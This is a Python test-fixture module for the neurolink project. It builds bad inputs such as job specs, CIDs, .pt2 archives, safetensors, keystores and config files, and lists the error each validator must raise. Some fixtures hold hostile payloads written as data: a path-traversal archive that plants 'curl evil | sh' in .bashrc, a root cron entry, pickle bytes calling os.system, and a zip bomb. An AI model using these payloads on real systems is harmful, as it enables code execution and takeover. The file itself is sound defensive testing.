"""Builds each bad input (small text cases from files/, large or binary ones in code) and its call.

A case's `arrange(folder)` (with `chain`, `arrange(folder, w3)` for a real anvil) writes what the
case needs under `folder` and returns the call to make:
a library entry point (which must raise `error`) or, for `error is None`, the real `neurolink`
command (whose return code must be `exit_code`). Everything under `folder` must be unchanged after.
"""

import io
import json
import os
import struct
import subprocess
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

from neurolink.accounts.errors import InvalidKeyError, WrongPasswordError
from neurolink.accounts.keystore import Keystore
from neurolink.chain import deployments
from neurolink.chain.errors import DeploymentNotFoundError
from neurolink.config import load_settings
from neurolink.content import InvalidCIDError, parse_cid
from neurolink.errors import ConfigError, ExitCode
from neurolink.pt2 import UnsafeProgramError, check_archive
from neurolink.spec import MAX_SPEC_BYTES, JobSpec, SpecError
from neurolink.specfile import read_spec
from neurolink.vetting import MalformedTensorsError, check_safetensors
from node.daemon.config import load_node_config
from node.daemon.errors import NodeConfigError

if TYPE_CHECKING:
    from web3 import Web3

FILES = Path(__file__).with_name("files")
NEUROLINK = str(Path(sys.executable).with_name("neurolink"))
CID = "bafkreigh2akiscaildcqabsyg3dfr6chu3fgpregiymsck7e7aqa4s52zy"
# Hardhat/anvil account 0: a well-known test key, never funded anywhere that matters.
KEY = "0xac0974bec39a17e36ba4a6b4d238ff944bacb478cbed5efcae784d7bf4f2ff80"
PASSWORD = "correct horse"
FAST_SCRYPT = 2**4
MAX_PROGRAM = 1 << 20

Call = Callable[[], object]


@dataclass(frozen=True)
class Case:
    """One bad input: its kind, the entry point fed, the error and exit code expected."""

    id: str
    kind: str
    entry: str
    error: type[Exception] | None
    exit_code: int
    arrange: Callable[..., Call]
    chain: bool = False


def _copy(name: str, folder: Path) -> Path:
    path = folder / name
    path.write_bytes((FILES / name).read_bytes())
    return path


# --- job specs -----------------------------------------------------------------------------------


def _spec_file(name: str) -> Callable[[Path], Call]:
    return lambda folder: lambda: JobSpec.from_json((FILES / name).read_bytes())


def _spec_bytes(data: bytes) -> Callable[[Path], Call]:
    return lambda folder: lambda: JobSpec.from_json(data)


def _deep(depth: int) -> bytes:
    return b'{"workload": ' + b"[" * depth + b"]" * depth + b"}"


def _read_spec(name: str) -> Callable[[Path], Call]:
    def arrange(folder: Path) -> Call:
        path = _copy(name, folder)
        return lambda: read_spec(path)

    return arrange


def _read_spec_bytes(data: bytes) -> Callable[[Path], Call]:
    def arrange(folder: Path) -> Call:
        path = folder / "spec.json"
        path.write_bytes(data)
        return lambda: read_spec(path)

    return arrange


def _deep_spec_in_a_web3_process(folder: Path) -> Call:
    # web3 raises the recursion limit to 100000 on import: json.loads of a million-deep file then
    # overflows the C stack (a segfault) unless read_spec refuses the file by its size first.
    import web3  # noqa: F401

    return _read_spec_bytes(_deep(1_000_000))(folder)


def _ten_mb_spec() -> bytes:
    return json.dumps({"workload": {"kind": "benchmark"}, "pad": "x" * (10 * 1024 * 1024)}).encode()


# --- CIDs ----------------------------------------------------------------------------------------


def _cid(text: str) -> Callable[[Path], Call]:
    return lambda folder: lambda: parse_cid(text)


def _multiformats_cid(codec: str, hashfun: str) -> str:
    from multiformats import CID, multihash

    return str(CID("base32", 1, codec, multihash.digest(b"corpus", hashfun)))


def _lazy_cid(build: Callable[[], str]) -> Callable[[Path], Call]:
    return lambda folder: lambda: parse_cid(build())


# --- .pt2 archives -------------------------------------------------------------------------------

_SKELETON = {
    "archive_format": b"pt2",
    "archive_version": b"0",
    "byteorder": b"little",
    "models/model.json": b"{}",
}


def _zip(members: dict[str, bytes], root: str = "model/") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {**{root + k: v for k, v in _SKELETON.items()}, **members}.items():
            archive.writestr(name, content)
    return out.getvalue()


def _archive(build: Callable[[], bytes]) -> Callable[[Path], Call]:
    return lambda folder: lambda: check_archive(build(), max_uncompressed=MAX_PROGRAM)


def _code_in_expression(folder: Path) -> Call:
    from node.worker.samples import code_running_program

    data = code_running_program(f"open({str(folder / 'pwned')!r}, 'w').write('owned')")
    return lambda: check_archive(data, max_uncompressed=MAX_PROGRAM)


# --- safetensors ---------------------------------------------------------------------------------


def _tensors(header: object, data: bytes = b"", *, length: int | None = None) -> bytes:
    raw = json.dumps(header).encode() if not isinstance(header, bytes) else header
    return struct.pack("<Q", len(raw) if length is None else length) + raw + data


def _safetensors(content: bytes) -> Callable[[Path], Call]:
    def arrange(folder: Path) -> Call:
        path = folder / "inputs.safetensors"
        path.write_bytes(content)
        return lambda: check_safetensors(path, "inputs.x")

    return arrange


def _f32(offsets: list[int], shape: list[int] | None = None, dtype: object = "F32") -> dict[str, object]:
    return {"dtype": dtype, "shape": shape or [(offsets[1] - offsets[0]) // 4], "data_offsets": offsets}


# --- keystores -----------------------------------------------------------------------------------


def _keystore(folder: Path) -> Keystore:
    store = Keystore(folder / "keystore", scrypt_n=FAST_SCRYPT)
    store.import_key(KEY, PASSWORD)
    return store


def _unlock_wrong_password(folder: Path) -> Call:
    store = _keystore(folder)
    return lambda: store.unlock(None, "wrong " + PASSWORD)


def _import_keystore(name: str, password: str = PASSWORD) -> Callable[[Path], Call]:
    def arrange(folder: Path) -> Call:
        store = Keystore(folder / "keystore", scrypt_n=FAST_SCRYPT)
        store.new("another password")  # the folder already holds a key: it must survive untouched
        path = _copy(name, folder)
        return lambda: store.import_file(path, password)

    return arrange


def _import_valid_keystore_wrong_password(folder: Path) -> Call:
    source = _keystore(folder / "source")
    target = Keystore(folder / "keystore", scrypt_n=FAST_SCRYPT)
    path = source.find().path
    return lambda: target.import_file(path, "wrong " + PASSWORD)


# --- config and deployments files ----------------------------------------------------------------


def _config(name: str | None, content: bytes | None = None) -> Callable[[Path], Call]:
    def arrange(folder: Path) -> Call:
        path = folder / "config.toml"
        if name is not None:
            path.write_bytes((FILES / name).read_bytes())
        elif content is not None:
            path.write_bytes(content)
        else:
            path.mkdir()  # a folder where the file should be
        return lambda: load_settings(path, home=folder / "home")

    return arrange


def _node_config(name: str) -> Callable[[Path], Call]:
    def arrange(folder: Path) -> Call:
        settings = load_settings(folder / "none.toml", home=folder / "home")
        path = _copy(name, folder)
        return lambda: load_node_config(settings, path)

    return arrange


def _deployments(content: Callable[[], bytes], *, node: bool = False) -> Callable[[Path], Call]:
    def arrange(folder: Path) -> Call:
        settings = load_settings(folder / "none.toml", home=folder / "home")
        settings.deployments_dir.mkdir(parents=True)
        (settings.deployments_dir / "31337.json").write_bytes(content())
        if node:
            return lambda: load_node_config(settings, folder / "node.toml")
        return lambda: deployments.find(31337, settings)

    return arrange


def _deployment_doc(**overrides: object) -> dict[str, object]:
    record = {"name": "x", "address": "0x" + "11" * 20, "code_hash": "0x" + "00" * 32}
    return {
        "chain_id": 31337,
        "network": "devnet",
        "deployer": "0x" + "22" * 20,
        "deploy_block": 1,
        "deployed_at": 0,
        "token": record,
        "staking": record,
        "job_market": record,
        **overrides,
    }


def _disagreeing_deployment() -> bytes:
    return json.dumps(_deployment_doc(contracts={"NeuroToken": "0x" + "33" * 20})).encode()


# --- RPC answers (a real anvil, chain id 31337) --------------------------------------------------


def _rpc_wrong_chain(folder: Path, w3: "Web3") -> Call:
    settings = load_settings(folder / "none.toml", home=folder / "home")
    return lambda: deployments.for_chain(w3, settings, "sepolia")


def _rpc_no_code(folder: Path, w3: "Web3") -> Call:
    # A deployments file that is valid, but the chain holds no code at its addresses (a restarted devnet).
    settings = load_settings(folder / "none.toml", home=folder / "home")
    settings.deployments_dir.mkdir(parents=True)
    (settings.deployments_dir / "31337.json").write_text(json.dumps(_deployment_doc()))
    return lambda: deployments.for_chain(w3, settings)


# --- the real `neurolink` command ----------------------------------------------------------------


def _cli(*argv: str, files: Callable[[Path], None] | None = None) -> Callable[[Path], Call]:
    def arrange(folder: Path) -> Call:
        home = folder / "home"
        home.mkdir()
        (folder / "pw").write_text(PASSWORD + "\n")
        if files is not None:
            files(folder)
        env = {k: v for k, v in os.environ.items() if not k.startswith("NEUROLINK_")}
        # A closed port: a command that connected before checking its input would exit 6, not 3.
        env |= {"NEUROLINK_HOME": str(home), "NEUROLINK_RPC_URL": "http://127.0.0.1:9"}
        args = [a.format(folder=folder) for a in argv]
        return lambda: subprocess.run(
            [NEUROLINK, *args],
            cwd=folder,
            env=env,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )

    return arrange


def _evil_inference_job(folder: Path) -> None:
    spec = {
        "workload": {"kind": "inference", "program": "program", "inputs": "tensors"},
        "inputs": {"program": "model.pt2", "tensors": "x.safetensors"},
    }
    (folder / "job.json").write_text(json.dumps(spec))
    (folder / "model.pt2").write_bytes(_zip({"model/../../../home/.bashrc": b"curl evil | sh"}))
    (folder / "x.safetensors").write_bytes(_tensors({"x": _f32([0, 4])}, b"\0" * 4))
    # The local content store exists: a refused job must not have added a block to it.
    (folder / "home" / "content").mkdir()


def _cli_bad_config(folder: Path) -> None:
    (folder / "home" / "config.toml").write_bytes((FILES / "config-bad-value.toml").read_bytes())


def _cli_corrupt_keystore(folder: Path) -> None:
    _keystore(folder / "home")
    _copy("keystore-crypto-string.json", folder)


def _cli_huge_spec(folder: Path) -> None:
    (folder / "huge.json").write_bytes(_ten_mb_spec())


INVALID = ExitCode.INVALID_INPUT

CASES: list[Case] = [
    # job specs: JobSpec.from_json (the bytes a provider fetches by CID)
    Case(
        "spec-wrong-type",
        "job spec",
        "JobSpec.from_json",
        SpecError,
        INVALID,
        _spec_file("spec-wrong-type.json"),
    ),
    Case(
        "spec-unknown-field",
        "job spec",
        "JobSpec.from_json",
        SpecError,
        INVALID,
        _spec_file("spec-unknown-field.json"),
    ),
    Case(
        "spec-unknown-kind",
        "job spec",
        "JobSpec.from_json",
        SpecError,
        INVALID,
        _spec_file("spec-unknown-kind.json"),
    ),
    Case(
        "spec-huge-seed",
        "job spec",
        "JobSpec.from_json",
        SpecError,
        INVALID,
        _spec_file("spec-huge-seed.json"),
    ),
    Case(
        "spec-5000-digit-int",
        "job spec",
        "JobSpec.from_json",
        SpecError,
        INVALID,
        _spec_bytes(b'{"workload": {"kind": "benchmark"}, "seed": ' + b"9" * 5000 + b"}"),
    ),
    Case(
        "spec-infinite-float",
        "job spec",
        "JobSpec.from_json",
        SpecError,
        INVALID,
        _spec_bytes(b'{"workload": {"kind": "benchmark", "size": 1e999}}'),
    ),
    Case(
        "spec-nan-learning-rate",
        "job spec",
        "JobSpec.from_json",
        SpecError,
        INVALID,
        _spec_file("spec-nan-rate.json"),
    ),
    Case(
        "spec-traversal-input-name",
        "job spec",
        "JobSpec.from_json",
        SpecError,
        INVALID,
        _spec_file("spec-traversal-input-name.json"),
    ),
    Case(
        "spec-version-2",
        "job spec",
        "JobSpec.from_json",
        SpecError,
        INVALID,
        _spec_file("spec-version-2.json"),
    ),
    Case(
        "spec-not-object",
        "job spec",
        "JobSpec.from_json",
        SpecError,
        INVALID,
        _spec_file("spec-not-object.json"),
    ),
    Case(
        "spec-17-replicas",
        "job spec",
        "JobSpec.from_json",
        SpecError,
        INVALID,
        _spec_file("spec-too-many-replicas.json"),
    ),
    Case(
        "spec-deep-nesting", "job spec", "JobSpec.from_json", SpecError, INVALID, _spec_bytes(_deep(30_000))
    ),
    Case(
        "spec-over-size-limit",
        "job spec",
        "JobSpec.from_json",
        SpecError,
        INVALID,
        _spec_bytes(b" " * MAX_SPEC_BYTES + b'{"workload": {"kind": "benchmark"}}'),
    ),
    Case(
        "spec-10mb",
        "job spec",
        "JobSpec.from_json",
        SpecError,
        INVALID,
        lambda folder: lambda: JobSpec.from_json(_ten_mb_spec()),
    ),
    Case(
        "spec-not-utf8",
        "job spec",
        "JobSpec.from_json",
        SpecError,
        INVALID,
        _spec_bytes(b'{"workload": "\xff\xfe"}'),
    ),
    # spec files: neurolink.specfile.read_spec (the requester's file, inputs by path)
    Case(
        "specfile-missing-input",
        "spec file",
        "read_spec",
        SpecError,
        INVALID,
        _read_spec("specfile-missing-input.json"),
    ),
    Case(
        "specfile-input-number",
        "spec file",
        "read_spec",
        SpecError,
        INVALID,
        _read_spec("specfile-input-number.json"),
    ),
    Case(
        "specfile-deep-nesting",
        "spec file",
        "read_spec",
        SpecError,
        INVALID,
        _read_spec_bytes(_deep(30_000)),
    ),
    Case(
        "specfile-deep-nesting-1m-web3-loaded",
        "spec file",
        "read_spec",
        SpecError,
        INVALID,
        _deep_spec_in_a_web3_process,
    ),
    Case("specfile-10mb", "spec file", "read_spec", SpecError, INVALID, _read_spec_bytes(_ten_mb_spec())),
    Case(
        "specfile-binary",
        "spec file",
        "read_spec",
        SpecError,
        INVALID,
        _read_spec_bytes(b"\x89PNG\r\n\x1a\n\x00\xff"),
    ),
    Case(
        "specfile-is-a-folder",
        "spec file",
        "read_spec",
        SpecError,
        INVALID,
        lambda folder: lambda: read_spec(folder),
    ),
    # CIDs: neurolink.content.parse_cid
    Case(
        "cid-wrong-codec",
        "CID",
        "parse_cid",
        InvalidCIDError,
        INVALID,
        _lazy_cid(lambda: _multiformats_cid("dag-json", "sha2-256")),
    ),
    Case(
        "cid-wrong-hash",
        "CID",
        "parse_cid",
        InvalidCIDError,
        INVALID,
        _lazy_cid(lambda: _multiformats_cid("raw", "sha3-256")),
    ),
    Case("cid-truncated", "CID", "parse_cid", InvalidCIDError, INVALID, _cid(CID[:-6])),
    Case("cid-not-base32", "CID", "parse_cid", InvalidCIDError, INVALID, _cid("b" + "!" * 58)),
    Case(
        "cid-base32-uppercase-mixed",
        "CID",
        "parse_cid",
        InvalidCIDError,
        INVALID,
        _cid(CID[:10] + "X1" + CID[12:]),
    ),
    Case(
        "cid-v0-truncated",
        "CID",
        "parse_cid",
        InvalidCIDError,
        INVALID,
        _cid("QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79"),
    ),
    Case("cid-empty", "CID", "parse_cid", InvalidCIDError, INVALID, _cid("   ")),
    # .pt2 programs: neurolink.pt2.check_archive
    Case(
        "pt2-not-a-zip",
        ".pt2 archive",
        "check_archive",
        UnsafeProgramError,
        INVALID,
        _archive(lambda: b"PK\x03\x04junk"),
    ),
    Case(
        "pt2-zip-bomb",
        ".pt2 archive",
        "check_archive",
        UnsafeProgramError,
        INVALID,
        _archive(lambda: _zip({"model/data/weights/weight_0": bytes(64 << 20)})),
    ),
    Case(
        "pt2-path-traversal",
        ".pt2 archive",
        "check_archive",
        UnsafeProgramError,
        INVALID,
        _archive(lambda: _zip({"model/../../etc/cron.d/evil": b"* * * * * root sh"})),
    ),
    Case(
        "pt2-absolute-path",
        ".pt2 archive",
        "check_archive",
        UnsafeProgramError,
        INVALID,
        _archive(lambda: _zip({"/etc/passwd": b"root::0:0"})),
    ),
    Case(
        "pt2-pickled-sample-inputs",
        ".pt2 archive",
        "check_archive",
        UnsafeProgramError,
        INVALID,
        _archive(lambda: _zip({"model/data/sample_inputs/model.pt": b"\x80\x04cos\nsystem\n."})),
    ),
    Case(
        "pt2-pickled-state-dict",
        ".pt2 archive",
        "check_archive",
        UnsafeProgramError,
        INVALID,
        _archive(lambda: _zip({"model/data/weights/model.pt": b"\x80\x04cos\nsystem\n."})),
    ),
    Case(
        "pt2-native-library",
        ".pt2 archive",
        "check_archive",
        UnsafeProgramError,
        INVALID,
        _archive(lambda: _zip({"model/data/aotinductor/model/model.so": b"\x7fELF"})),
    ),
    Case(
        "pt2-nested-zip",
        ".pt2 archive",
        "check_archive",
        UnsafeProgramError,
        INVALID,
        _archive(lambda: _zip({"model/data/inner.pt2": _zip({})})),
    ),
    Case(
        "pt2-code-in-expression",
        ".pt2 archive",
        "check_archive",
        UnsafeProgramError,
        INVALID,
        _code_in_expression,
    ),
    # safetensors inputs: neurolink.vetting.check_safetensors
    Case(
        "st-shorter-than-header",
        "safetensors",
        "check_safetensors",
        MalformedTensorsError,
        INVALID,
        _safetensors(b"\x10\x00"),
    ),
    Case(
        "st-header-length-2^63",
        "safetensors",
        "check_safetensors",
        MalformedTensorsError,
        INVALID,
        _safetensors(_tensors({}, length=1 << 63)),
    ),
    Case(
        "st-header-not-json",
        "safetensors",
        "check_safetensors",
        MalformedTensorsError,
        INVALID,
        _safetensors(_tensors(b"{not json")),
    ),
    Case(
        "st-overlapping-offsets",
        "safetensors",
        "check_safetensors",
        MalformedTensorsError,
        INVALID,
        _safetensors(_tensors({"a": _f32([0, 8]), "b": _f32([4, 12])}, b"\0" * 12)),
    ),
    Case(
        "st-gap",
        "safetensors",
        "check_safetensors",
        MalformedTensorsError,
        INVALID,
        _safetensors(_tensors({"a": _f32([4, 8])}, b"\0" * 8)),
    ),
    Case(
        "st-offsets-past-end",
        "safetensors",
        "check_safetensors",
        MalformedTensorsError,
        INVALID,
        _safetensors(_tensors({"a": _f32([0, 1 << 40])}, b"\0" * 4)),
    ),
    Case(
        "st-unknown-dtype",
        "safetensors",
        "check_safetensors",
        MalformedTensorsError,
        INVALID,
        _safetensors(_tensors({"a": _f32([0, 4], dtype="F128")}, b"\0" * 4)),
    ),
    Case(
        "st-dtype-not-a-string",
        "safetensors",
        "check_safetensors",
        MalformedTensorsError,
        INVALID,
        _safetensors(_tensors({"a": _f32([0, 4], dtype=["F32"])}, b"\0" * 4)),
    ),
    Case(
        "st-shape-overflow",
        "safetensors",
        "check_safetensors",
        MalformedTensorsError,
        INVALID,
        _safetensors(_tensors({"a": _f32([0, 4], shape=[1 << 62, 1 << 62])}, b"\0" * 4)),
    ),
    Case(
        "st-negative-shape",
        "safetensors",
        "check_safetensors",
        MalformedTensorsError,
        INVALID,
        _safetensors(_tensors({"a": _f32([0, 4], shape=[-1])}, b"\0" * 4)),
    ),
    # keystores: Keystore.unlock / Keystore.import_file
    Case(
        "keystore-wrong-password",
        "keystore",
        "Keystore.unlock",
        WrongPasswordError,
        INVALID,
        _unlock_wrong_password,
    ),
    Case(
        "keystore-import-wrong-password",
        "keystore",
        "Keystore.import_file",
        WrongPasswordError,
        INVALID,
        _import_valid_keystore_wrong_password,
    ),
    Case(
        "keystore-corrupted-json",
        "keystore",
        "Keystore.import_file",
        InvalidKeyError,
        INVALID,
        _import_keystore("keystore-corrupted.json"),
    ),
    Case(
        "keystore-version-4",
        "keystore",
        "Keystore.import_file",
        InvalidKeyError,
        INVALID,
        _import_keystore("keystore-version-4.json"),
    ),
    Case(
        "keystore-crypto-not-object",
        "keystore",
        "Keystore.import_file",
        InvalidKeyError,
        INVALID,
        _import_keystore("keystore-crypto-string.json"),
    ),
    Case(
        "keystore-unknown-kdf",
        "keystore",
        "Keystore.import_file",
        InvalidKeyError,
        INVALID,
        _import_keystore("keystore-unknown-kdf.json"),
    ),
    # config files: load_settings (config.toml) and load_node_config (node.toml)
    Case(
        "config-bad-toml",
        "config file",
        "load_settings",
        ConfigError,
        INVALID,
        _config("config-bad-toml.toml"),
    ),
    Case(
        "config-unknown-key",
        "config file",
        "load_settings",
        ConfigError,
        INVALID,
        _config("config-unknown-key.toml"),
    ),
    Case(
        "config-bad-value",
        "config file",
        "load_settings",
        ConfigError,
        INVALID,
        _config("config-bad-value.toml"),
    ),
    Case(
        "config-bad-gateway",
        "config file",
        "load_settings",
        ConfigError,
        INVALID,
        _config("config-bad-gateway.toml"),
    ),
    Case(
        "config-not-utf8",
        "config file",
        "load_settings",
        ConfigError,
        INVALID,
        _config(None, b"rpc_url = '\xff'\n"),
    ),
    Case("config-is-a-folder", "config file", "load_settings", ConfigError, INVALID, _config(None)),
    Case(
        "node-config-fault-typo",
        "config file",
        "load_node_config",
        NodeConfigError,
        INVALID,
        _node_config("node-config-fault-typo.toml"),
    ),
    Case(
        "node-config-unknown-key",
        "config file",
        "load_node_config",
        NodeConfigError,
        INVALID,
        _node_config("node-config-unknown-key.toml"),
    ),
    # deployments files: neurolink.chain.deployments.find and the node's reader
    Case(
        "deployments-not-json",
        "deployments file",
        "deployments.find",
        ConfigError,
        INVALID,
        _deployments((FILES / "deployments-not-json.json").read_bytes),
    ),
    Case(
        "deployments-not-utf8",
        "deployments file",
        "deployments.find",
        ConfigError,
        INVALID,
        _deployments(lambda: b'{"network": "\xff"}'),
    ),
    Case(
        "deployments-missing-field",
        "deployments file",
        "deployments.find",
        ConfigError,
        INVALID,
        _deployments((FILES / "deployments-missing-field.json").read_bytes),
    ),
    Case(
        "deployments-contracts-disagree",
        "deployments file",
        "deployments.find",
        ConfigError,
        INVALID,
        _deployments(_disagreeing_deployment),
    ),
    Case(
        "node-deployments-contracts-list",
        "deployments file",
        "load_node_config",
        NodeConfigError,
        INVALID,
        _deployments((FILES / "deployments-contracts-list.json").read_bytes, node=True),
    ),
    # RPC answers: neurolink.chain.deployments.for_chain against a real anvil
    Case(
        "rpc-wrong-chain-id",
        "RPC answer",
        "deployments.for_chain",
        ConfigError,
        INVALID,
        _rpc_wrong_chain,
        chain=True,
    ),
    Case(
        "rpc-address-without-code",
        "RPC answer",
        "deployments.for_chain",
        DeploymentNotFoundError,
        ExitCode.NOT_FOUND,
        _rpc_no_code,
        chain=True,
    ),
    # the real `neurolink` command
    Case(
        "cli-job-submit-traversal-pt2",
        "CLI",
        "neurolink job submit",
        None,
        INVALID,
        _cli("job", "submit", "job.json", "--password-file", "pw", files=_evil_inference_job),
    ),
    Case(
        "cli-job-submit-10mb-spec",
        "CLI",
        "neurolink job submit",
        None,
        INVALID,
        _cli("job", "submit", "huge.json", "--password-file", "pw", files=_cli_huge_spec),
    ),
    Case(
        "cli-account-import-corrupt-keystore",
        "CLI",
        "neurolink account import",
        None,
        INVALID,
        _cli(
            "account",
            "import",
            "--keystore",
            "keystore-crypto-string.json",
            "--password-file",
            "pw",
            "--keystore-dir",
            "{folder}/home/keystore",
            files=_cli_corrupt_keystore,
        ),
    ),
    Case(
        "cli-content-get-not-a-cid",
        "CLI",
        "neurolink content get",
        None,
        INVALID,
        _cli("content", "get", "bafy!!notbase32", "-o", "out.bin"),
    ),
    Case(
        "cli-bad-config-value",
        "CLI",
        "neurolink account list",
        None,
        INVALID,
        _cli("account", "list", files=_cli_bad_config),
    ),
    Case(
        "cli-port-not-a-number",
        "CLI",
        "neurolink content serve",
        None,
        INVALID,
        _cli("content", "serve", "--port", "eighty"),
    ),
    Case(
        "cli-unknown-command", "CLI", "neurolink job", None, ExitCode.USAGE, _cli("job", "sumbit", "job.json")
    ),
]
